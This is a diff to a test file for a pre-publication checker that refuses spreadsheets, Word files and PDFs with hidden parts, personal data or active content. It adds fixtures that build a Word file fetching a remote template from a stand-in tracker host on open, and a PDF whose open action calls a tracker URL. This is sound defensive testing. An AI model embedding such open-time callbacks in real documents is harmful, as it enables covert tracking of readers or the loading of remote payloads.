@@ -152,6 +152,10 @@ def xlsx(tmp: Path, **bad) -> Path:
             sheet.row_dimensions[2].hidden = True
         if "hidden_column" in bad:
             sheet.column_dimensions["B"].hidden = True
+        if "zero_height_row" in bad:  # hidden by its size, not its flag
+            sheet.row_dimensions[2].height = 0.1
+        if "zero_width_column" in bad:
+            sheet.column_dimensions["B"].width = 0.5
         if "comment" in bad:
             sheet["A2"].comment = Comment("要確認", "山田")
         if "author" in bad:
@@ -182,6 +186,7 @@ def test_the_open_data_workbook_writer_passes_and_writes_text_as_text(tmp_path):
 
 @pytest.mark.parametrize("bad,message", [
     ("hidden_sheet", "hidden sheet"), ("hidden_row", "hidden rows"), ("hidden_column", "hidden columns"),
+    ("zero_height_row", "hidden rows"), ("zero_width_column", "hidden columns"),
     ("comment", "cell comment"), ("author", "author metadata (山田 太郎)"), ("formula", "formula cell"),
     ("phone", "phone number (090-1234-5678)")])
 def test_workbooks_with_hidden_or_personal_parts_are_refused(tmp_path, bad, message):
@@ -226,18 +231,31 @@ def docx(**bad) -> bytes:
         document.add_paragraph()._p.append(insertion)
     if "phone" in bad:
         document.add_paragraph("担当: 080-1111-2222")
+    if "remote_template" in bad:  # Word fetches an attached template from its URL as the file opens
+        part = document.part._settings_part
+        rel = part.relate_to("https://tracker.example/t.dotm", RELATIONSHIPS + "attachedTemplate", is_external=True)
+        template = OxmlElement("w:attachedTemplate")
+        template.set(qn("r:id"), rel)
+        part.element.append(template)
+    if "hyperlink" in bad:  # followed only when clicked: allowed
+        paragraph.part.relate_to("https://www.example.jp/", RELATIONSHIPS + "hyperlink", is_external=True)
     buffer = io.BytesIO()
     document.save(buffer)
     return buffer.getvalue()
 
 
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
 def test_a_plain_word_document_passes(tmp_path):
     assert published(tmp_path, "contract.docx", docx()) == []
+    assert published(tmp_path, "contract.docx", docx(hyperlink=True)) == []
 
 
 @pytest.mark.parametrize("bad,message", [("author", "author metadata"), ("comment", "holds comments"),
                                          ("hidden", "hidden text"), ("tracked", "tracked insertion"),
-                                         ("phone", "phone number (080-1111-2222)")])
+                                         ("phone", "phone number (080-1111-2222)"),
+                                         ("remote_template", "loads content from elsewhere when opened (https://tracker.example/t.dotm)")])
 def test_word_documents_with_hidden_or_personal_parts_are_refused(tmp_path, bad, message):
     found = published(tmp_path, "contract.docx", docx(**{bad: True}))
     assert found and all(f.startswith("out/files/contract.docx:") for f in found), found
@@ -254,6 +272,10 @@ def pdf(**bad) -> bytes:
         writer.add_open_action(JavaScript("app.alert('x');"))
     if "attachment" in bad:
         writer.add_attachment("memo.txt", b"internal")
+    if "open_uri" in bad:  # a reader's viewer would call the address as the file opens
+        writer._root_object[pypdf.generic.NameObject("/OpenAction")] = pypdf.generic.DictionaryObject({
+            pypdf.generic.NameObject("/S"): pypdf.generic.NameObject("/URI"),
+            pypdf.generic.NameObject("/URI"): pypdf.generic.TextStringObject("https://tracker.example/opened")})
     buffer = io.BytesIO()
     writer.write(buffer)
     return buffer.getvalue()
@@ -267,7 +289,8 @@ def test_a_plain_pdf_and_the_fixture_materials_pass(tmp_path):
 
 @pytest.mark.parametrize("bad,message", [("author", "author metadata (山田 太郎)"),
                                          ("javascript", "scripts or actions"),
-                                         ("attachment", "attachments (/EmbeddedFiles)")])
+                                         ("attachment", "attachments (/EmbeddedFiles)"),
+                                         ("open_uri", "scripts or actions (/OpenAction /URI)")])
 def test_pdfs_with_authors_scripts_or_attachments_are_refused(tmp_path, bad, message):
     found = published(tmp_path, "material.pdf", pdf(**{bad: True}))
     assert found and all(f.startswith("out/files/material.pdf:") for f in found), found
